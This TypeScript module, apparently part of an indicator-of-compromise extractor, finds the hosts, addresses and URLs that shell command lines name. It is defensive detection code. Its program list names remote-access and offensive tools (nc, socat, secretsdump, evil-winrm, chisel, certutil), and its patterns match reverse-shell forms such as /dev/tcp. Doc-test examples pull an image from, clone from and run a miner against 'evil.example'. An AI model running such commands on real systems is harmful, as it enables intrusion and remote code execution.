/**
 * The hosts that a command line names: what its programs are given, whatever
 * follows a scheme, and a host with its port.
 *
 * @module
 */
import type { Candidate } from "../ioc.ts";
import { normalize } from "../kinds.ts";
import { isFileName } from "../tokens.ts";

/**
 * What a program takes. One that fetches takes a URL without its scheme, too; of
 * one that takes pages, all else is a file or a word;
 * one that pulls takes `registry/name`, where all else is no host; one that runs
 * takes the same as `name=registry/name`; one that clones takes `host:path`.
 */
type Takes = "call" | "fetch" | "page" | "pull" | "run" | "clone";

const PROGRAMS: ReadonlyMap<string, Takes> = new Map([
  ...taking(
    "fetch",
    ("wget curl wget2 aria2c axel lynx fetch lwp-download lwp-request httpie http " +
      "https invoke-webrequest iwr invoke-restmethod irm start-bitstransfer mshta")
      .split(" "),
  ),
  ...taking("page", ["certutil", "bitsadmin", "certreq", "mpcmdrun"]),
  ...taking(
    "call",
    ("ping ping6 fping hping3 ssh scp sftp sshpass autossh mosh rsync rclone nc ncat " +
      "netcat telnet dig nslookup host drill whois traceroute tracert tracepath mtr " +
      "ftp tftp ftpget socat openssl nmap masscan mstsc rdesktop xfreerdp plink " +
      "putty pscp psftp mount smbget smbclient rpcclient ldapsearch redis-cli mysql " +
      "psql mongo test-netconnection tnc test-connection resolve-dnsname " +
      "enter-pssession new-pssession invoke-command cmdkey winrs wmic psexec " +
      "psexec64 wmiexec smbexec atexec secretsdump evil-winrm crackmapexec netexec " +
      "nxc hydra medusa finger rlogin rsh cloudflared ngrok chisel").split(" "),
  ),
  ...taking(
    "pull",
    "docker podman nerdctl crictl ctr buildah skopeo crane oras go".split(" "),
  ),
  ...taking("run", ["kubectl", "oc"]),
  ...taking("clone", ["git", "hg", "svn"]),
]);

function taking(
  takes: Takes,
  names: readonly string[],
): readonly (readonly [string, Takes])[] {
  return names.map((name) => [name, takes]);
}

/** Options of programs that fetch whose value may look like a host, and is none. */
const OTHER =
  "-[AHFb]|--(?:header|user-agent|referer|form|cookie|data[\\w-]*)" +
  "|-(?:Headers|UserAgent|Body)";
const TAKES_OTHER = new RegExp(
  `^(?:${OTHER}|-[Udeu]|--user|-headers)$`,
);
const QUOTED_OTHER = new RegExp(
  `\\s(?:${OTHER})[ =](?:"[^"]{0,500}"|'[^']{0,500}')`,
  "g",
);

/** Options whose value is a host, whatever the program. */
const TAKES_HOST =
  /^-{0,2}(?:(?:[lr]|remote-?|trusted-|peer)?host|(?:key|smtp|remote-?)?server|connect|pool|relay|computername|ping|(?:pre)?proxy|socks\d\w?(?:-hostname)?)(=|$)/i;

const TOKEN = /[^\s"'`|;&<>(),]+|[|;&\n]/g;

/**
 * The hosts that a command line names.
 *
 * @example
 * ```ts
 * import { assertEquals } from "@std/assert";
 *
 * const found = (text: string) =>
 *   [...hostsNamedIn(text, "f")].map(({ text }) => text);
 * assertEquals(found("docker pull evil.example/x:1.2"), ["evil.example"]);
 * assertEquals(found("git clone git://evil.example/x.git"), ["evil.example"]);
 * assertEquals(found("./miner -o evil.example:3333"), ["evil.example"]);
 * assertEquals(found("tool --server evil.example"), ["evil.example"]);
 * assertEquals(found("git add main.go; docker run nginx:1.25"), []);
 * ```
 */
export function* hostsNamedIn(
  text: string,
  field: string,
): Generator<Candidate> {
  for (const { groups } of text.matchAll(NAMED_HOST)) {
    const host = Object.values(groups ?? {}).find((one) => one !== undefined);
    if (host !== undefined && isHost(host)) {
      yield { kind: "host", text: host, field };
    }
  }
  yield* hostsOfPrograms(text, field);
}

/**
 * /dev/tcp/HOST/80, /inet/tcp/0/HOST/80, \\HOST\share, ssh://user@HOST,
 * connect("HOST", 80), connect(80, "HOST"), connect({host: "HOST"}),
 * -H "Host: HOST"
 */
const NAMED_HOST =
  /\/(?:dev\/(?:tc|ud)p|inet\d?\/(?:tc|ud)p\/\d{1,5})\/(?<device>[\w.-]{1,253})\/|(?:(?<![\w\\:])|(?<=location:))\\{2,4}(?<share>[\w-][\w.-]{0,252})(?:@\w{1,9})?\\|(?<=[a-z])(?<!\b(?:https?|ftp|ldaps?|rmi|dns)):\/\/(?:[^\s@/"']{1,99}@)?(?<url>[\w.-]{1,253})|(?:tcpclient|udpclient|connect(?:ion)?|gethost\w{1,20}|inet_aton|fsockopen|tcpsocket\.(?:open|new)|socket)\s{0,9}\({1,3}\s{0,9}(?:\d{1,5}\s{0,9},\s{0,9}|\{[^{}]{0,99}?host["']?:\s{0,9})?["'](?<call>[\w.-]{1,253})["']|(?<=(?:-H|--header|-Headers\s?@\{)[ =]{0,2}\\?["']?)Host["']?\s{0,3}[:=]\s{0,3}["']?(?<header>[\w.-]{1,253})/gi;

/**
 * The hosts behind the schemes that bots speak to their servers with.
 *
 * @example
 * ```ts
 * import { assertEquals } from "@std/assert";
 *
 * assertEquals(hostsOfSchemes("to wss://evil.example/ws").toArray(), [
 *   { text: "evil.example", index: 3 },
 * ]);
 * ```
 */
export function* hostsOfSchemes(
  text: string,
): Generator<{ readonly text: string; readonly index: number }> {
  if (!text.includes("://")) return;
  for (const { 1: host = "", index } of text.matchAll(SCHEME)) {
    if (isHost(host)) yield { text: host, index };
  }
}

const SCHEME =
  /(?<![a-z])(?:wss?|tcp|udp|ssh|sftp|smb|telnet):\/\/(?:[^\s@/"']{1,99}@)?([\w.-]{1,253})/gi;

/** Whether a word is a name with dots, and no file's. Addresses are found apart. */
function isHost(word: string): boolean {
  return normalize("host", word)?.kind === "domain" && !isFileName(word) &&
    !isOfProgram(word);
}

/**
 * A class, as java.lang.ProcessBuilder, a folder, as tool-2.24-101, or a file, as
 * bot.arm7: no country is called so.
 */
function isOfProgram(word: string): boolean {
  const end = word.slice(word.replace(/\.$/, "").lastIndexOf(".") + 1);
  return !/^(?:[a-z]{2,}|[A-Z]{2,}|xn--[\w-]+|[^\0-\x7f]+)\.?$/.test(end);
}

function* hostsOfPrograms(text: string, field: string): Generator<Candidate> {
  let takes: Takes | undefined;
  let skipsNext = false;
  let isNext = false;
  for (const [token] of text.replace(QUOTED_OTHER, " ").matchAll(TOKEN)) {
    if (/^[;|&\n]/.test(token)) {
      takes = undefined;
      isNext = false;
      continue;
    }
    const program = (takes === "pull" || takes === "run") && token.includes("/")
      ? undefined
      : PROGRAMS.get(programOf(token));
    if (program !== undefined) {
      takes = program;
      skipsNext = false;
      isNext = false;
      continue;
    }
    // docker login registry
    if (takes === "pull" && token === "login") takes = "call";
    const isGiven = isNext;
    const [option, equals] = TAKES_HOST.exec(token) ?? [];
    isNext = equals === "" && token.startsWith("-") ||
      // curl's proxy; wget's -x has no value, and its URL may follow.
      takes === "fetch" && token === "-x";
    if (option !== undefined && equals === "=") {
      yield* hostOfWord(token.slice(option.length), { field, takes: "call" });
    } else if (isGiven) {
      yield* hostOfWord(token, {
        field,
        takes: takes === "fetch" ? takes : "call",
      });
    } else if (skipsNext) skipsNext = false;
    else if (
      takes === "fetch" && TAKES_OTHER.test(token.split("=", 1)[0] ?? "")
    ) {
      skipsNext = !token.includes("=");
    } else if (token.startsWith("-") && !token.includes("=")) {
      skipsNext = takes === "pull" &&
        /^-(?:[efvw]|-env|-file|-volume)$/.test(token);
    } else yield* hostOfWord(token, { field, takes });
  }
}

function programOf(token: string): string {
  return (token.split(/[/\\=?]/).at(-1) ?? "").toLowerCase()
    .replace(/\.(?:exe|com|py)$/, "");
}

/** An address as a number, or as four in hexadecimal digits. */
const NUMBER =
  /^(?:\d{9,10}|0x[\da-f]{7,8}|0x[\da-f]{1,2}(?:\.0x[\da-f]{1,2}){3})$/i;

/** [user@]host[:port or path], as programs take it. */
function* hostOfWord(
  word: string,
  { field, takes }: {
    readonly field: string;
    readonly takes: Takes | undefined;
  },
): Generator<Candidate> {
  // What has a scheme is found as a URL.
  if (word.includes("://") || word.length > 2000) return;
  if ((takes === "call" || takes === "fetch") && NUMBER.test(word)) {
    const text = URL.parse(`http://${word}`)?.hostname;
    if (text !== undefined) yield { kind: "address", text, field, port: "53" };
    return;
  }
  const bare = word.replace(
    /^(?:-{1,2}[\w-]{1,30}=|\/[a-z]{1,12}:|(?:tcp|udp|openssl)[\w-]{0,12}:|\/\/|\\{2,4}|::|(?:[\w.*-]{0,64}:)?\d{1,5}:)/i,
    "",
  );
  const named = takes === "run" ? bare.replace(/^[\w-]{1,63}=/, "") : bare;
  const [, user = "", host = "", port = "", rest = ""] =
    /^((?:[\w.-]{1,64}\/)?[^@\s/]{1,64}@)?([\w-]+(?:\.[\w-]+)+)\.?(?:(:\d{1,5})?(\/\S*)?|:\S*)$/
      .exec(named) ?? [];
  if (!isHost(host) && !(rest !== "" && normalize("address", host))) return;
  const isTaken = takes === "pull"
    ? rest.length > 1 && user === ""
    : takes === "clone"
    ? /:\D/.test(bare)
    : takes === "page"
    ? rest.length > 1 && rest.startsWith("/")
    : takes === "run"
    ? rest.length > 1 && word.includes("=")
    : takes !== undefined || user === "" && /^:\d{2}/.test(port);
  if (!isTaken) return;
  yield { kind: "host", text: host, field };
  if ((takes === "fetch" || takes === "page") && rest !== "") {
    yield {
      kind: "url",
      text: `http://${bare.slice(user.length)}`,
      field,
    };
  }
}
